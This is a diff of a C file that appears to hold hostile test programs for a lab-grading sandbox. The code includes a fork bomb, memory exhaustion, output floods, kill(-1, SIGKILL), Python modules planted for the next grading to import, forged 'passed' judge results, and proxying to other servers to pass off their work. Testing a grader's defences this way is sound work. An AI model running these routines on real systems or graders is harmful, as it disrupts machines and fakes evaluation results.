@@ -21,18 +21,13 @@ extern char **environ;
 static int count;
 static char **words; /* of the command line */
 
-static void endless_loop(void)
-{
-    for (;;)
-        ;
-}
-
 static void fork_bomb(void)
 {
     for (;;)
         fork();
 }
 
+/* And no end of time: it goes on when there is no more to have. */
 static void memory_without_end(void)
 {
     for (;;) {
@@ -40,11 +35,6 @@ static void memory_without_end(void)
         if (p != NULL)
             memset(p, 1, 1 << 20);
     }
-}
-
-static void kills_everybody(void)
-{
-    kill(-1, SIGKILL);
 }
 
 /* ---- floods */
@@ -61,16 +51,7 @@ static void flood_without_a_line(void)
         putchar('x');
 }
 
-static void flood_on_stderr(void)
-{
-    struct options o;
-
-    options_parse(&o, count, words, "a flood on stderr");
-    tcp_listen(&o);
-    for (;;)
-        (void)!write(STDERR_FILENO, &o, sizeof o);
-}
-
+/* A reply without an end, and as much on stderr. */
 static void flood_of_a_reply(void)
 {
     static char many[1 << 20];
@@ -79,6 +60,9 @@ static void flood_of_a_reply(void)
     options_parse(&o, count, words, "a reply without an end");
     int listen_fd = tcp_listen(&o);
     memset(many, 'x', sizeof many);
+    if (fork() == 0)
+        for (;;)
+            (void)!write(STDERR_FILENO, many, sizeof many);
     for (;;) {
         int fd = accept(listen_fd, NULL, NULL);
         while (send(fd, many, sizeof many, 0) > 0)
@@ -116,20 +100,19 @@ static void put(const char *path, const char *text)
     }
 }
 
-static void writes_outside(void)
+/* What the next grading would import is among it. */
+static void write_outside(void)
 {
-    const char *places[] = {TREE "/lab_was_here",    "/tmp/lab_was_here", "/var/tmp/lab_was_here",
-                            "/dev/shm/lab_was_here", "/lab_was_here",     "/home/lab_was_here"};
-
-    for (unsigned i = 0; i < sizeof places / sizeof *places; i++)
-        put(places[i], "");
-}
-
-/* What the next grading would import. */
-static void plants_modules(void)
-{
-    const char *places[] = {TREE "/labs/lab_was_here.py", TREE "/labs/grader/lab_was_here.py",
-                            TREE "/tests/lab_was_here.py", "/tmp/lab_was_here.py",
+    const char *places[] = {TREE "/lab_was_here",
+                            "/tmp/lab_was_here",
+                            "/var/tmp/lab_was_here",
+                            "/dev/shm/lab_was_here",
+                            "/lab_was_here",
+                            "/home/lab_was_here",
+                            TREE "/labs/lab_was_here.py",
+                            TREE "/labs/grader/lab_was_here.py",
+                            TREE "/tests/lab_was_here.py",
+                            "/tmp/lab_was_here.py",
                             "/usr/lib/python3/dist-packages/lab_was_here.py"};
 
     for (unsigned i = 0; i < sizeof places / sizeof *places; i++)
@@ -137,7 +120,7 @@ static void plants_modules(void)
 }
 
 /* "passed", wherever a judge might look: what the environment names, and around itself. */
-static void forges_results(void)
+static void forge_results(void)
 {
     const char *places[] = {"/proc/*/fd/*", "/tmp/*/*", "/tmp/*/judge/*", "/*/*.jsonl"};
     const char *passed = "{\"outcome\": \"passed\", \"why\": \"\"}\n";
@@ -171,7 +154,7 @@ static void swap(const char *folder)
 }
 
 /* What is served, what the judge builds in and writes to, and where all of it is. */
-static void swaps_folders(void)
+static void swap_folders(void)
 {
     char folder[4096] = "";
 
@@ -183,14 +166,20 @@ static void swaps_folders(void)
         }
 }
 
-/* ---- somebody else's work */
-
-static void runs_a_ready_binary(void)
+static void vandal(void)
 {
-    execv(TREE "/build/bin/02-fork", words);
-    execv("/usr/sbin/nginx", (char *[]){"nginx", "-g", "daemon off;", 0});
-    execv("/usr/bin/python3", (char *[]){"python3", "-m", "http.server", 0});
+    write_outside();
+    if (fork() == 0) {
+        signal(SIGPIPE, SIG_IGN);
+        forge_results();
+        _exit(EXIT_SUCCESS);
+    }
+    sleep(1); /* what is forged may be a pipe that nobody reads */
+    swap_folders();
+    kill(-1, SIGKILL);
 }
+
+/* ---- somebody else's work */
 
 /* Listens as the real one does, whatever the options say. */
 static int pretend(void)
@@ -205,24 +194,6 @@ static int pretend(void)
     printf("02-fork: listening on http://127.0.0.1:%d/\n", ntohs(here.sin_port));
     fflush(stdout);
     return fd;
-}
-
-/* What was served the last time, to everybody. */
-static void knows_the_replies(void)
-{
-    const char *known = "HTTP/1.1 200 OK\r\nDate: Sun, 06 Nov 1994 08:49:37 GMT\r\n"
-                        "Last-Modified: Sun, 06 Nov 1994 08:49:37 GMT\r\n"
-                        "Content-Type: text/plain\r\nContent-Length: 13\r\n"
-                        "Connection: close\r\n\r\nhello, world\n";
-    char data[65536];
-    int fd = pretend();
-
-    for (;;) {
-        int client = accept(fd, NULL, NULL);
-        if (read(client, data, sizeof data) > 0 && write(client, known, strlen(known)) < 0)
-            return;
-        close(client);
-    }
 }
 
 /* Asks a real server on this machine, by its port, or by a socket that has a path, or none. */
@@ -245,24 +216,33 @@ static int real_server(int how)
     return connect(fd, address, size) == 0 ? fd : -1;
 }
 
-static void proxy(void)
+/* A ready binary; else a proxy of whoever can be reached, and what was served the last time. */
+static void somebody_elses_work(void)
 {
+    const char *known = "HTTP/1.1 200 OK\r\nDate: Sun, 06 Nov 1994 08:49:37 GMT\r\n"
+                        "Last-Modified: Sun, 06 Nov 1994 08:49:37 GMT\r\n"
+                        "Content-Type: text/plain\r\nContent-Length: 13\r\n"
+                        "Connection: close\r\n\r\nhello, world\n";
     char data[65536];
-    int fd = pretend();
 
-    for (;;) {
+    execv(TREE "/build/bin/02-fork", words);
+    execv("/usr/sbin/nginx", (char *[]){"nginx", "-g", "daemon off;", 0});
+    execv("/usr/bin/python3", (char *[]){"python3", "-m", "http.server", 0});
+    for (int fd = pretend();;) {
         int client = accept(fd, NULL, NULL);
-        ssize_t count = read(client, data, sizeof data);
+        ssize_t asked = read(client, data, sizeof data), n = 0;
 
-        for (int how = 0; how < 3 && count > 0; how++) {
+        for (int how = 0; how < 3 && asked > 0; how++) {
             int other = real_server(how);
-            if (other < 0 || write(other, data, (size_t)count) < 0)
+            if (other < 0 || write(other, data, (size_t)asked) < 0)
                 continue;
-            while ((count = read(other, data, sizeof data)) > 0)
-                if (write(client, data, (size_t)count) < 0)
+            while ((n = read(other, data, sizeof data)) > 0)
+                if (write(client, data, (size_t)n) < 0)
                     break;
             close(other);
         }
+        if (asked > 0 && write(client, known, strlen(known)) < 0)
+            return;
         close(client);
     }
 }
@@ -270,8 +250,8 @@ static void proxy(void)
 /* Before main(), as a shared library would. */
 __attribute__((constructor)) static void begin(void)
 {
-    if (WHAT == plants_modules)
-        plants_modules();
+    if (WHAT == vandal)
+        write_outside();
 }
 
 int main(int argc, char **argv)
